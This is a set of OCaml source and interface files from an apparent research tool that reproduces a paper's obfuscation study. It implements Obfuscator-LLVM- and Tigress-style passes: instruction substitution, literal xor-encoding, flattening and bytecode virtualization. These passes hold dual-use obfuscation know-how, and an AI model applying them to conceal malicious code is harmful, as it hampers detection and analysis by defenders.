type symbol = { sym_name : string; sym_addr : int64; sym_size : int }

type t = {
  code_base : int64;
  code : Bytes.t;
  data_base : int64;
  data : Bytes.t;
  entry : int64;
  symbols : symbol list;
}

let default_code_base = 0x400000L
let default_data_base = 0x600000L

let create ?(code_base = default_code_base) ?(data_base = default_data_base)
    ?(symbols = []) ~entry ~code ~data () =
  { code_base; code; data_base; data; entry; symbols }

let code_size t = Bytes.length t.code
let data_size t = Bytes.length t.data

let code_end t = Int64.add t.code_base (Int64.of_int (code_size t))
let data_end t = Int64.add t.data_base (Int64.of_int (data_size t))

let in_code t addr = addr >= t.code_base && addr < code_end t
let in_data t addr = addr >= t.data_base && addr < data_end t

(* Byte at an absolute address, raising if outside both regions. *)
let byte t addr =
  if in_code t addr then
    Bytes.get_uint8 t.code (Int64.to_int (Int64.sub addr t.code_base))
  else if in_data t addr then
    Bytes.get_uint8 t.data (Int64.to_int (Int64.sub addr t.data_base))
  else invalid_arg (Printf.sprintf "Image.byte: address 0x%Lx unmapped" addr)

let find_symbol t name =
  List.find_opt (fun s -> s.sym_name = name) t.symbols

let symbol_addr t name =
  match find_symbol t name with
  | Some s -> s.sym_addr
  | None -> invalid_arg (Printf.sprintf "Image.symbol_addr: no symbol %s" name)

let symbol_at t addr =
  List.find_opt
    (fun s ->
      addr >= s.sym_addr
      && Int64.to_int (Int64.sub addr s.sym_addr) < max 1 s.sym_size)
    t.symbols

(* Read a NUL-terminated string out of the data region (for execve paths). *)
let read_cstring t addr =
  let buf = Buffer.create 16 in
  let rec loop a =
    let b = byte t a in
    if b = 0 then Buffer.contents buf
    else begin
      Buffer.add_char buf (Char.chr b);
      loop (Int64.add a 1L)
    end
  in
  loop addr
