lib/util/image.ml: Buffer Bytes Char Int64 List Printf
