lib/util/image.mli: Bytes
