lib/util/hex.ml: Buffer Bytes Char Int64 Printf
