lib/util/rng.mli:
