(* Deterministic splitmix64 RNG.

   Every randomized component (obfuscation passes, solver model search,
   planner tie-breaking) takes an explicit [Rng.t] so whole experiments are
   reproducible from a single seed. *)

type t = { mutable state : int64 }

let create seed = { state = Int64.of_int seed }

let copy t = { state = t.state }

let next_int64 t =
  let open Int64 in
  t.state <- add t.state 0x9E3779B97F4A7C15L;
  let z = t.state in
  let z = mul (logxor z (shift_right_logical z 30)) 0xBF58476D1CE4E5B9L in
  let z = mul (logxor z (shift_right_logical z 27)) 0x94D049BB133111EBL in
  logxor z (shift_right_logical z 31)

(* Uniform int in [0, bound). *)
let int t bound =
  if bound <= 0 then invalid_arg "Rng.int: bound must be positive";
  let r = Int64.to_int (Int64.shift_right_logical (next_int64 t) 2) in
  r mod bound

let bool t = Int64.logand (next_int64 t) 1L = 1L

(* Bernoulli with probability [p]. *)
let flip t p = int t 1000 < int_of_float (p *. 1000.)

let choose t lst =
  match lst with
  | [] -> invalid_arg "Rng.choose: empty list"
  | _ -> List.nth lst (int t (List.length lst))

let shuffle t lst =
  let arr = Array.of_list lst in
  let n = Array.length arr in
  for i = n - 1 downto 1 do
    let j = int t (i + 1) in
    let tmp = arr.(i) in
    arr.(i) <- arr.(j);
    arr.(j) <- tmp
  done;
  Array.to_list arr

(* Fresh sub-generator, so sibling passes don't perturb each other. *)
let split t = { state = next_int64 t }
