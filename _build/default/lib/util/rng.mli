(** Deterministic splitmix64 pseudo-random generator.

    Every randomized component (obfuscation passes, solver model search,
    planner tie-breaking) takes an explicit generator, so a whole
    experiment is reproducible from one seed. *)

type t
(** Mutable generator state. *)

val create : int -> t
(** [create seed] makes a generator; equal seeds give equal streams. *)

val copy : t -> t
(** Independent copy continuing from the current state. *)

val next_int64 : t -> int64
(** Next raw 64-bit output. *)

val int : t -> int -> int
(** [int t bound] draws uniformly from [0, bound). Raises
    [Invalid_argument] if [bound <= 0]. *)

val bool : t -> bool
(** Fair coin. *)

val flip : t -> float -> bool
(** [flip t p] is true with probability ~[p]. *)

val choose : t -> 'a list -> 'a
(** Uniform element of a non-empty list. *)

val shuffle : t -> 'a list -> 'a list
(** Fisher–Yates permutation. *)

val split : t -> t
(** Fresh sub-generator, so sibling consumers don't perturb each other. *)
