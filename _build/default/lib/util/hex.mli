(** Hex rendering helpers shared by the CLI, examples, and tests. *)

val of_bytes : Bytes.t -> string
(** Lower-case hex string of the bytes, two digits per byte. *)

val dump : ?base:int64 -> Bytes.t -> string
(** xxd-style dump, 16 bytes per line, addresses starting at [base]. *)

val int64_le : int64 -> Bytes.t
(** The 8 little-endian bytes of the value. *)
