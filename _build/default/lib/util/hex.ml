(* Hex rendering helpers shared by the CLI, examples, and tests. *)

let of_bytes b =
  let buf = Buffer.create (Bytes.length b * 2) in
  Bytes.iter (fun c -> Buffer.add_string buf (Printf.sprintf "%02x" (Char.code c))) b;
  Buffer.contents buf

let dump ?(base = 0L) b =
  let buf = Buffer.create 256 in
  let n = Bytes.length b in
  let i = ref 0 in
  while !i < n do
    let line_len = min 16 (n - !i) in
    Buffer.add_string buf
      (Printf.sprintf "%08Lx  " (Int64.add base (Int64.of_int !i)));
    for j = 0 to line_len - 1 do
      Buffer.add_string buf (Printf.sprintf "%02x " (Bytes.get_uint8 b (!i + j)))
    done;
    Buffer.add_char buf '\n';
    i := !i + 16
  done;
  Buffer.contents buf

let int64_le v =
  let b = Bytes.create 8 in
  Bytes.set_int64_le b 0 v;
  b
