(** Flat binary image: the loadable artifact every analysis consumes.

    Stands in for an ELF executable (DESIGN.md §2): all the tools in the
    paper scan the executable byte range, so the container format is
    incidental.  Code and data are two contiguous regions plus a symbol
    table for diagnostics. *)

type symbol = { sym_name : string; sym_addr : int64; sym_size : int }

type t = {
  code_base : int64;
  code : Bytes.t;
  data_base : int64;
  data : Bytes.t;
  entry : int64;          (** address execution starts at *)
  symbols : symbol list;
}

val default_code_base : int64
val default_data_base : int64

val create :
  ?code_base:int64 ->
  ?data_base:int64 ->
  ?symbols:symbol list ->
  entry:int64 ->
  code:Bytes.t ->
  data:Bytes.t ->
  unit ->
  t

val code_size : t -> int
val data_size : t -> int

val code_end : t -> int64
(** One past the last code byte. *)

val data_end : t -> int64

val in_code : t -> int64 -> bool
(** Does the absolute address fall inside the code region? *)

val in_data : t -> int64 -> bool

val byte : t -> int64 -> int
(** Byte at an absolute address; raises [Invalid_argument] when the
    address is in neither region. *)

val find_symbol : t -> string -> symbol option

val symbol_addr : t -> string -> int64
(** Address of a named symbol; raises [Invalid_argument] if absent. *)

val symbol_at : t -> int64 -> symbol option
(** The symbol whose range covers the address, if any. *)

val read_cstring : t -> int64 -> string
(** NUL-terminated string starting at the address (e.g. execve paths). *)
