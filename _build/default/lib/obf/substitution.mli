(** Instruction substitution (paper §II-A(1), Obfuscator-LLVM -sub):
    replace arithmetic/bitwise operations with longer equivalent
    sequences.  All identities are exact on 64-bit two's-complement. *)

val run :
  ?prob:float -> ?rounds:int -> Gp_util.Rng.t -> Gp_ir.Ir.program ->
  Gp_ir.Ir.program
(** Rewrite each eligible [Bin] with probability [prob] (default 0.6),
    [rounds] times.  Mutates and returns the program. *)
