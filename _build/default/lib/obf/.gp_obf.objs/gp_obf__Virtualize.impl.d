lib/obf/virtualize.ml: Array Bytes Gp_ir Int64 Ir List Printf
