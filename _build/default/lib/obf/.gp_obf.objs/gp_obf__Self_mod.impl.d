lib/obf/self_mod.ml: Bytes Gp_ir Gp_util Int64 Ir List Printf
