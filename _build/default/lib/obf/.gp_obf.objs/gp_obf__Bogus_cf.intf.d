lib/obf/bogus_cf.mli: Gp_ir Gp_util
