lib/obf/substitution.ml: Gp_ir Gp_util Ir List
