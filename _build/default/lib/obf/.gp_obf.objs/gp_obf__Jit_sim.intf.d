lib/obf/jit_sim.mli: Gp_ir Gp_util
