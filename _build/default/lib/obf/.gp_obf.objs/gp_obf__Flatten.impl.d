lib/obf/flatten.ml: Array Gp_ir Int64 Ir List Printf
