lib/obf/opaque.mli: Gp_ir Gp_util
