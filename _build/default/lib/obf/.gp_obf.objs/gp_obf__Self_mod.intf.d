lib/obf/self_mod.mli: Gp_ir Gp_util
