lib/obf/bogus_cf.ml: Bytes Gp_ir Gp_util Int64 Ir List Opaque Printf
