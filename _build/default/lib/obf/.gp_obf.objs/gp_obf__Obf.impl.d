lib/obf/obf.ml: Bogus_cf Encode_lit Flatten Gp_ir Gp_util Jit_sim List Self_mod String Substitution Virtualize
