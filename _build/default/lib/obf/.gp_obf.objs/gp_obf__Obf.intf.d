lib/obf/obf.mli: Gp_ir
