lib/obf/flatten.mli: Gp_ir Gp_util
