lib/obf/substitution.mli: Gp_ir Gp_util
