lib/obf/opaque.ml: Gp_ir Gp_util Ir Printf
