lib/obf/virtualize.mli: Gp_ir Gp_util
