lib/obf/encode_lit.mli: Gp_ir Gp_util
