lib/obf/encode_lit.ml: Gp_ir Gp_util Int64 Ir List
