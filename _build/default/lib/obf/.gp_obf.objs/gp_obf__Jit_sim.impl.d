lib/obf/jit_sim.ml: Bytes Encode Gp_ir Gp_util Gp_x86 Insn Int64 Ir List Printf Reg
