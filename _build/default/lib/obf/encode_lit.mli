(** Encode Data / literal encoding (paper §II-A(6), Tigress
    EncodeLiterals): integer literals become xor-split computations, so
    constants no longer appear in the instruction stream.  Shift amounts
    are exempt (they must stay constant for the ISA subset). *)

val run : ?prob:float -> Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.program
