(** Virtualization (paper §II-A(7), Tigress Virtualize): translate each
    function's body into a custom bytecode stored in the data section and
    replace the body with an interpreter whose dispatch is a jump table
    over handler blocks — the structure the paper identifies as the
    reason virtualization injects so many indirect-jump gadgets.

    VM model: one 4-word cell per IR instruction; virtual registers in a
    frame-slot array (original alloca slots preserved at their indices so
    address-of-local — and stack-smash — behaviour survives);
    calls/syscalls/globals get specialized opcodes. *)

val virtualizable : Gp_ir.Ir.func -> bool
(** Functions containing [Switch] or [CallPtr] are left alone (these only
    appear post-obfuscation; virtualize runs first). *)

val run :
  ?only:string list -> Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.program
(** Virtualize every virtualizable function (or just those named in
    [only]). *)
