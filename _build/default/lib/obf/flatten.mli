(** Control-flow flattening (paper §II-A(3), Obfuscator-LLVM -fla): every
    block returns to a central dispatcher that transfers control
    according to a state variable.  With [use_switch] (the default) the
    dispatcher is a jump table — injecting the indirect-jump gadgets the
    paper finds in flattened binaries. *)

val run :
  ?use_switch:bool -> Gp_util.Rng.t -> Gp_ir.Ir.program -> Gp_ir.Ir.program
