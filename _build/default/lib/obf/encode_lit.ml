(* Encode Data / literal encoding (paper §II-A(6), Tigress EncodeLiterals):
   integer literals are replaced by computations that produce the same
   value at run time (xor-split against a random key), so constants no
   longer appear in the instruction stream. *)

open Gp_ir

(* Rewrite an operand, returning (extra instructions, new operand). *)
let encode_operand rng (f : Ir.func) (op : Ir.operand) =
  match op with
  | Ir.I n ->
    let key = Gp_util.Rng.next_int64 rng in
    let t1 = Ir.fresh_temp f in
    let t2 = Ir.fresh_temp f in
    ( [ Ir.Mov (t1, Ir.I (Int64.logxor n key));
        Ir.Bin (Ir.Xor, t2, Ir.T t1, Ir.I key) ],
      Ir.T t2 )
  | _ -> ([], op)

let encode_instr rng prob (f : Ir.func) (i : Ir.instr) : Ir.instr list =
  let enc op =
    match op with
    | Ir.I _ when Gp_util.Rng.flip rng prob -> encode_operand rng f op
    | _ -> ([], op)
  in
  match i with
  | Ir.Bin ((Ir.Shl | Ir.Shr | Ir.Sar), _, _, _) ->
    (* shift amounts must stay constant for the ISA subset *)
    [ i ]
  | Ir.Bin (op, d, a, b) ->
    let ia, a' = enc a in
    let ib, b' = enc b in
    ia @ ib @ [ Ir.Bin (op, d, a', b') ]
  | Ir.Mov (d, s) ->
    let is_, s' = enc s in
    is_ @ [ Ir.Mov (d, s') ]
  | Ir.Load (d, a, off) ->
    let ia, a' = enc a in
    ia @ [ Ir.Load (d, a', off) ]
  | Ir.Store (a, off, s) ->
    let ia, a' = enc a in
    let is_, s' = enc s in
    ia @ is_ @ [ Ir.Store (a', off, s') ]
  | Ir.Cmp (r, d, a, b) ->
    let ia, a' = enc a in
    let ib, b' = enc b in
    ia @ ib @ [ Ir.Cmp (r, d, a', b') ]
  | Ir.CallI (d, name, args) ->
    let extra, args' =
      List.fold_right
        (fun arg (acc, args) ->
          let ia, a' = enc arg in
          (ia @ acc, a' :: args))
        args ([], [])
    in
    extra @ [ Ir.CallI (d, name, args') ]
  | Ir.CallPtr (d, target, args) ->
    let it, target' = enc target in
    let extra, args' =
      List.fold_right
        (fun arg (acc, args) ->
          let ia, a' = enc arg in
          (ia @ acc, a' :: args))
        args ([], [])
    in
    it @ extra @ [ Ir.CallPtr (d, target', args') ]
  | Ir.SyscallI (d, args) ->
    let extra, args' =
      List.fold_right
        (fun arg (acc, args) ->
          let ia, a' = enc arg in
          (ia @ acc, a' :: args))
        args ([], [])
    in
    extra @ [ Ir.SyscallI (d, args') ]
  | Ir.AddrLocal _ -> [ i ]

let run ?(prob = 0.5) rng (prog : Ir.program) =
  List.iter
    (fun (f : Ir.func) ->
      List.iter
        (fun (blk : Ir.block) ->
          blk.Ir.b_instrs <-
            List.concat_map (encode_instr rng prob f) blk.Ir.b_instrs;
          (* encode the branch condition operand too *)
          match blk.Ir.b_term with
          | Ir.Br (c, l1, l2) when Gp_util.Rng.flip rng prob -> (
            match c with
            | Ir.I _ ->
              let extra, c' = encode_operand rng f c in
              blk.Ir.b_instrs <- blk.Ir.b_instrs @ extra;
              blk.Ir.b_term <- Ir.Br (c', l1, l2)
            | _ -> ())
          | _ -> ())
        f.Ir.f_blocks)
    prog.Ir.p_funcs;
  prog
