(* Virtualization (paper §II-A(7), Tigress Virtualize): translate each
   function's body into a custom bytecode stored in the data section, and
   replace the body with an interpreter.  The interpreter's dispatch is a
   jump table over handler blocks — the structure the paper identifies as
   the reason virtualization injects so many (indirect-jump) gadgets.

   VM model:
   - one 4-word bytecode cell per IR instruction: [opcode; a; b; c];
   - virtual registers ("vregs") live in a frame-slot array: one cell per
     original temp, plus 3 scratch cells (immediate materialization) and
     6 argument-staging cells;
   - the original alloca slots are preserved at their original indices so
     address-of-local semantics (and stack-smash behaviour!) survive;
   - calls/syscalls/globals get specialized opcodes (the real call or
     movabs lives in the handler), as Tigress does for "unvirtualizable"
     leaf operations. *)

open Gp_ir

type handler =
  | Hbin of Ir.binop                (* vr[a] = vr[b] op vr[c] *)
  | Hshift of Ir.binop * int        (* vr[a] = vr[b] shifted by constant *)
  | Hcmp of Ir.relop                (* vr[a] = vr[b] rel vr[c] *)
  | Hmovi                           (* vr[a] = b *)
  | Hmovr                           (* vr[a] = vr[b] *)
  | Hload                           (* vr[a] = mem[vr[b] + c] *)
  | Hstore                          (* mem[vr[a] + c] = vr[b] *)
  | Haddrl                          (* vr[a] = &frame_slot[b] *)
  | Hglob of string                 (* vr[a] = &global *)
  | Hcall of string * int           (* vr[a] = f(varg[0..n-1]) *)
  | Hsyscall of int                 (* vr[a] = syscall(varg[0..n-1]) *)
  | Hjmp                            (* vpc = b *)
  | Hbr                             (* vpc = vr[a] ? b : c *)
  | Hret                            (* return vr[a] *)
  | Hretv                           (* return *)

(* A bytecode word is either a literal or a forward block reference. *)
type word = W of int64 | L of string

type vinsn = { op : handler; wa : word; wb : word; wc : word }

let wi n = W (Int64.of_int n)

(* Functions containing Switch or CallPtr are left unvirtualized (these
   only appear post-obfuscation anyway; virtualize runs first). *)
let virtualizable (f : Ir.func) =
  List.for_all
    (fun b ->
      (match b.Ir.b_term with Ir.Switch _ -> false | _ -> true)
      && List.for_all
           (fun i -> match i with Ir.CallPtr _ -> false | _ -> true)
           b.Ir.b_instrs)
    f.Ir.f_blocks

type trans = {
  mutable code : vinsn list;        (* reversed *)
  mutable count : int;              (* emitted instruction count *)
  mutable block_pc : (string * int) list;
  old_next_temp : int;
}

(* vreg layout *)
let scratch0 t = t.old_next_temp
let scratch1 t = t.old_next_temp + 1
let scratch2 t = t.old_next_temp + 2
let varg t k = t.old_next_temp + 3 + k
let vreg_count t = t.old_next_temp + 3 + 6

let emit t op wa wb wc =
  t.code <- { op; wa; wb; wc } :: t.code;
  t.count <- t.count + 1

(* Materialize an operand into a vreg index (possibly a scratch). *)
let operand_vreg t scratch (op : Ir.operand) =
  match op with
  | Ir.T tmp -> tmp
  | Ir.I n ->
    emit t Hmovi (wi scratch) (W n) (wi 0);
    scratch
  | Ir.G g ->
    emit t (Hglob g) (wi scratch) (wi 0) (wi 0);
    scratch

let trans_instr t (i : Ir.instr) =
  match i with
  | Ir.Bin ((Ir.Shl | Ir.Shr | Ir.Sar) as op, d, a, b) -> (
    match b with
    | Ir.I k ->
      let ra = operand_vreg t (scratch0 t) a in
      emit t (Hshift (op, Int64.to_int k)) (wi d) (wi ra) (wi 0)
    | _ -> invalid_arg "virtualize: variable shift amount")
  | Ir.Bin (op, d, a, b) ->
    let ra = operand_vreg t (scratch0 t) a in
    let rb = operand_vreg t (scratch1 t) b in
    emit t (Hbin op) (wi d) (wi ra) (wi rb)
  | Ir.Cmp (rel, d, a, b) ->
    let ra = operand_vreg t (scratch0 t) a in
    let rb = operand_vreg t (scratch1 t) b in
    emit t (Hcmp rel) (wi d) (wi ra) (wi rb)
  | Ir.Mov (d, s) -> (
    match s with
    | Ir.T tmp -> emit t Hmovr (wi d) (wi tmp) (wi 0)
    | Ir.I n -> emit t Hmovi (wi d) (W n) (wi 0)
    | Ir.G g -> emit t (Hglob g) (wi d) (wi 0) (wi 0))
  | Ir.Load (d, addr, off) ->
    let ra = operand_vreg t (scratch0 t) addr in
    emit t Hload (wi d) (wi ra) (wi off)
  | Ir.Store (addr, off, src) ->
    let ra = operand_vreg t (scratch0 t) addr in
    let rs = operand_vreg t (scratch1 t) src in
    emit t Hstore (wi ra) (wi rs) (wi off)
  | Ir.AddrLocal (d, slot) -> emit t Haddrl (wi d) (wi slot) (wi 0)
  | Ir.CallI (d, f, args) ->
    List.iteri
      (fun k arg ->
        let ra = operand_vreg t (scratch0 t) arg in
        emit t Hmovr (wi (varg t k)) (wi ra) (wi 0))
      args;
    let dst = match d with Some tmp -> tmp | None -> scratch2 t in
    emit t (Hcall (f, List.length args)) (wi dst) (wi 0) (wi 0)
  | Ir.SyscallI (d, args) ->
    List.iteri
      (fun k arg ->
        let ra = operand_vreg t (scratch0 t) arg in
        emit t Hmovr (wi (varg t k)) (wi ra) (wi 0))
      args;
    let dst = match d with Some tmp -> tmp | None -> scratch2 t in
    emit t (Hsyscall (List.length args)) (wi dst) (wi 0) (wi 0)
  | Ir.CallPtr _ -> invalid_arg "virtualize: CallPtr"

let trans_term t (term : Ir.terminator) =
  match term with
  | Ir.Jmp l -> emit t Hjmp (wi 0) (L l) (wi 0)
  | Ir.Br (c, l1, l2) ->
    let rc = operand_vreg t (scratch0 t) c in
    emit t Hbr (wi rc) (L l1) (L l2)
  | Ir.Ret (Some op) ->
    let r = operand_vreg t (scratch0 t) op in
    emit t Hret (wi r) (wi 0) (wi 0)
  | Ir.Ret None -> emit t Hretv (wi 0) (wi 0) (wi 0)
  | Ir.Switch _ -> invalid_arg "virtualize: Switch"

(* ----- interpreter construction ----- *)

(* Build the new function body.  [handlers] is the dense opcode table. *)
let build_interpreter (old : Ir.func) (bc_name : string) t handlers =
  let old_slots = old.Ir.f_frame_slots in
  let nf =
    { Ir.f_name = old.Ir.f_name;
      f_params = [];
      f_blocks = [];
      f_next_temp = 0;
      f_frame_slots = old_slots + vreg_count t;
      f_next_label = old.Ir.f_next_label }
  in
  let fresh () = Ir.fresh_temp nf in
  (* static vreg cell address: vreg i <-> frame slot (old_slots + i) *)
  let vreg_slot i = old_slots + i in
  (* dedicated temps live across blocks (all temps are frame-resident) *)
  let vpc = fresh () in
  let wa = fresh () and wb = fresh () and wc = fresh () in
  let l_dispatch = nf.Ir.f_name ^ ".vm_dispatch" in
  (* dynamic vreg read: out = vr[idx_temp] *)
  let vreg_read idx_op out =
    let base = fresh () in
    let off = fresh () in
    let addr = fresh () in
    [ Ir.AddrLocal (base, vreg_slot 0);
      Ir.Bin (Ir.Mul, off, idx_op, Ir.I 8L);
      Ir.Bin (Ir.Sub, addr, Ir.T base, Ir.T off);
      Ir.Load (out, Ir.T addr, 0) ]
  in
  let vreg_write idx_op value =
    let base = fresh () in
    let off = fresh () in
    let addr = fresh () in
    [ Ir.AddrLocal (base, vreg_slot 0);
      Ir.Bin (Ir.Mul, off, idx_op, Ir.I 8L);
      Ir.Bin (Ir.Sub, addr, Ir.T base, Ir.T off);
      Ir.Store (Ir.T addr, 0, value) ]
  in
  (* entry block: spill params into their vreg cells, vpc = 0 *)
  let params = List.map (fun _ -> fresh ()) old.Ir.f_params in
  nf.Ir.f_params <- params;
  let entry_instrs =
    List.concat
      (List.map2
         (fun old_t new_t ->
           let a = fresh () in
           [ Ir.AddrLocal (a, vreg_slot old_t); Ir.Store (Ir.T a, 0, Ir.T new_t) ])
         old.Ir.f_params params)
    @ [ Ir.Mov (vpc, Ir.I 0L) ]
  in
  let entry =
    { Ir.b_label = nf.Ir.f_name ^ ".vm_entry";
      b_instrs = entry_instrs;
      b_term = Ir.Jmp l_dispatch }
  in
  (* dispatch: load the 4 words, advance vpc, switch on opcode *)
  let handler_label k = Printf.sprintf "%s.vm_h%d" nf.Ir.f_name k in
  let dispatch_instrs =
    let tb = fresh () in
    let toff = fresh () in
    let taddr = fresh () in
    let top = fresh () in
    [ Ir.Mov (tb, Ir.G bc_name);
      Ir.Bin (Ir.Mul, toff, Ir.T vpc, Ir.I 8L);
      Ir.Bin (Ir.Add, taddr, Ir.T tb, Ir.T toff);
      Ir.Load (top, Ir.T taddr, 0);
      Ir.Load (wa, Ir.T taddr, 8);
      Ir.Load (wb, Ir.T taddr, 16);
      Ir.Load (wc, Ir.T taddr, 24);
      Ir.Bin (Ir.Add, vpc, Ir.T vpc, Ir.I 4L);
      Ir.Mov (fresh (), Ir.T top) ]
    (* the extra Mov keeps [top] the last-defined temp for clarity *)
  in
  let top_temp =
    (* recover the temp holding the opcode: 4th instruction's destination *)
    match List.nth dispatch_instrs 3 with
    | Ir.Load (t, _, _) -> t
    | _ -> assert false
  in
  let dispatch =
    { Ir.b_label = l_dispatch;
      b_instrs = dispatch_instrs;
      b_term =
        Ir.Switch
          (Ir.T top_temp, Array.init (List.length handlers) handler_label) }
  in
  (* handler bodies *)
  let handler_block k h =
    let body, term =
      match h with
      | Hbin op ->
        let i1 = fresh () and i2 = fresh () and r = fresh () in
        ( vreg_read (Ir.T wb) i1 @ vreg_read (Ir.T wc) i2
          @ [ Ir.Bin (op, r, Ir.T i1, Ir.T i2) ]
          @ vreg_write (Ir.T wa) (Ir.T r),
          Ir.Jmp l_dispatch )
      | Hshift (op, k) ->
        let i1 = fresh () and r = fresh () in
        ( vreg_read (Ir.T wb) i1
          @ [ Ir.Bin (op, r, Ir.T i1, Ir.I (Int64.of_int k)) ]
          @ vreg_write (Ir.T wa) (Ir.T r),
          Ir.Jmp l_dispatch )
      | Hcmp rel ->
        let i1 = fresh () and i2 = fresh () and r = fresh () in
        ( vreg_read (Ir.T wb) i1 @ vreg_read (Ir.T wc) i2
          @ [ Ir.Cmp (rel, r, Ir.T i1, Ir.T i2) ]
          @ vreg_write (Ir.T wa) (Ir.T r),
          Ir.Jmp l_dispatch )
      | Hmovi -> (vreg_write (Ir.T wa) (Ir.T wb), Ir.Jmp l_dispatch)
      | Hmovr ->
        let v = fresh () in
        (vreg_read (Ir.T wb) v @ vreg_write (Ir.T wa) (Ir.T v), Ir.Jmp l_dispatch)
      | Hload ->
        let base = fresh () and addr = fresh () and v = fresh () in
        ( vreg_read (Ir.T wb) base
          @ [ Ir.Bin (Ir.Add, addr, Ir.T base, Ir.T wc); Ir.Load (v, Ir.T addr, 0) ]
          @ vreg_write (Ir.T wa) (Ir.T v),
          Ir.Jmp l_dispatch )
      | Hstore ->
        let base = fresh () and addr = fresh () and v = fresh () in
        ( vreg_read (Ir.T wa) base
          @ vreg_read (Ir.T wb) v
          @ [ Ir.Bin (Ir.Add, addr, Ir.T base, Ir.T wc);
              Ir.Store (Ir.T addr, 0, Ir.T v) ],
          Ir.Jmp l_dispatch )
      | Haddrl ->
        (* &slot[b] = &slot[0] - 8*b *)
        let base0 = fresh () and off = fresh () and addr = fresh () in
        ( [ Ir.AddrLocal (base0, 0);
            Ir.Bin (Ir.Mul, off, Ir.T wb, Ir.I 8L);
            Ir.Bin (Ir.Sub, addr, Ir.T base0, Ir.T off) ]
          @ vreg_write (Ir.T wa) (Ir.T addr),
          Ir.Jmp l_dispatch )
      | Hglob g ->
        let v = fresh () in
        ([ Ir.Mov (v, Ir.G g) ] @ vreg_write (Ir.T wa) (Ir.T v), Ir.Jmp l_dispatch)
      | Hcall (fname, n) ->
        let args = List.init n (fun _ -> fresh ()) in
        let load_args =
          List.concat
            (List.mapi
               (fun k tmp ->
                 let a = fresh () in
                 [ Ir.AddrLocal (a, vreg_slot (varg t k));
                   Ir.Load (tmp, Ir.T a, 0) ])
               args)
        in
        let r = fresh () in
        ( load_args
          @ [ Ir.CallI (Some r, fname, List.map (fun a -> Ir.T a) args) ]
          @ vreg_write (Ir.T wa) (Ir.T r),
          Ir.Jmp l_dispatch )
      | Hsyscall n ->
        let args = List.init n (fun _ -> fresh ()) in
        let load_args =
          List.concat
            (List.mapi
               (fun k tmp ->
                 let a = fresh () in
                 [ Ir.AddrLocal (a, vreg_slot (varg t k));
                   Ir.Load (tmp, Ir.T a, 0) ])
               args)
        in
        let r = fresh () in
        ( load_args
          @ [ Ir.SyscallI (Some r, List.map (fun a -> Ir.T a) args) ]
          @ vreg_write (Ir.T wa) (Ir.T r),
          Ir.Jmp l_dispatch )
      | Hjmp -> ([ Ir.Mov (vpc, Ir.T wb) ], Ir.Jmp l_dispatch)
      | Hbr ->
        (* vpc = (vr[a] != 0) * b + (vr[a] == 0) * c *)
        let v = fresh () and norm = fresh () and inv = fresh () in
        let l = fresh () and r = fresh () in
        ( vreg_read (Ir.T wa) v
          @ [ Ir.Cmp (Ir.Ne, norm, Ir.T v, Ir.I 0L);
              Ir.Bin (Ir.Mul, l, Ir.T norm, Ir.T wb);
              Ir.Bin (Ir.Sub, inv, Ir.I 1L, Ir.T norm);
              Ir.Bin (Ir.Mul, r, Ir.T inv, Ir.T wc);
              Ir.Bin (Ir.Add, vpc, Ir.T l, Ir.T r) ],
          Ir.Jmp l_dispatch )
      | Hret ->
        let v = fresh () in
        (vreg_read (Ir.T wa) v, Ir.Ret (Some (Ir.T v)))
      | Hretv -> ([], Ir.Ret None)
    in
    { Ir.b_label = handler_label k; b_instrs = body; b_term = term }
  in
  nf.Ir.f_blocks <- entry :: dispatch :: List.mapi handler_block handlers;
  nf

(* ----- whole-pass driver ----- *)

let virtualize_func (prog : Ir.program) (f : Ir.func) : Ir.func =
  let t =
    { code = []; count = 0; block_pc = []; old_next_temp = f.Ir.f_next_temp }
  in
  List.iter
    (fun (b : Ir.block) ->
      t.block_pc <- (b.Ir.b_label, t.count * 4) :: t.block_pc;
      List.iter (trans_instr t) b.Ir.b_instrs;
      trans_term t b.Ir.b_term)
    f.Ir.f_blocks;
  let code = List.rev t.code in
  (* dense opcode numbering over the handlers actually used *)
  let handlers = ref [] in
  let opcode h =
    match List.assoc_opt h !handlers with
    | Some k -> k
    | None ->
      let k = List.length !handlers in
      handlers := !handlers @ [ (h, k) ];
      k
  in
  let resolve = function
    | W n -> n
    | L l -> (
      match List.assoc_opt l t.block_pc with
      | Some pc -> Int64.of_int pc
      | None -> invalid_arg ("virtualize: unresolved label " ^ l))
  in
  let words =
    List.concat_map
      (fun v ->
        [ Int64.of_int (opcode v.op); resolve v.wa; resolve v.wb; resolve v.wc ])
      code
  in
  let bc_name = Printf.sprintf "vm$%s" f.Ir.f_name in
  let bytes = Bytes.create (8 * List.length words) in
  List.iteri (fun i w -> Bytes.set_int64_le bytes (8 * i) w) words;
  Ir.add_data prog bc_name bytes;
  build_interpreter f bc_name t (List.map fst !handlers)

let run ?(only : string list option) _rng (prog : Ir.program) =
  let selected (f : Ir.func) =
    match only with None -> true | Some names -> List.mem f.Ir.f_name names
  in
  prog.Ir.p_funcs <-
    List.map
      (fun f ->
        if selected f && virtualizable f then virtualize_func prog f else f)
      prog.Ir.p_funcs;
  prog
