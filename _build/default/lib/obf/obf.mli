(** Obfuscation driver: named passes, configurations, and the two presets
    mirroring the paper's tools (§III-B). *)

type pass =
  | Substitution       (** arithmetic identities, Obfuscator-LLVM -sub *)
  | Bogus_cf           (** opaque-predicate junk branches, -bcf *)
  | Flatten            (** dispatcher loop, -fla *)
  | Encode_literals    (** Tigress EncodeLiterals *)
  | Virtualize         (** Tigress Virtualize: bytecode + interpreter *)
  | Self_modify        (** Tigress SelfModify, simulated (DESIGN.md §2) *)
  | Jit                (** Tigress JitDynamic, simulated *)

val pass_name : pass -> string
val pass_of_name : string -> pass
(** Accepts the full name or the usual abbreviation (sub, bcf, fla, lit,
    virt, sm, jit); raises [Invalid_argument] otherwise. *)

val all_passes : pass list

type config = {
  passes : pass list;    (** applied in order *)
  seed : int;
  intensity : float;     (** 0..1 probability knob *)
}

val config : ?seed:int -> ?intensity:float -> pass list -> config

val none : config
(** No obfuscation. *)

val ollvm : config
(** Obfuscator-LLVM preset: substitution + bogus CF + flattening. *)

val tigress : config
(** Tigress preset: literals, virtualization, substitution, bogus CF,
    flattening, self-modification, JIT. *)

val single : pass -> config
(** One pass alone (the per-method study behind Fig. 5). *)

val config_name : config -> string

val apply : config -> Gp_ir.Ir.program -> Gp_ir.Ir.program
(** Clone the program and run the passes.  Semantics-preserving: the
    differential test suite compares emulator runs before and after. *)

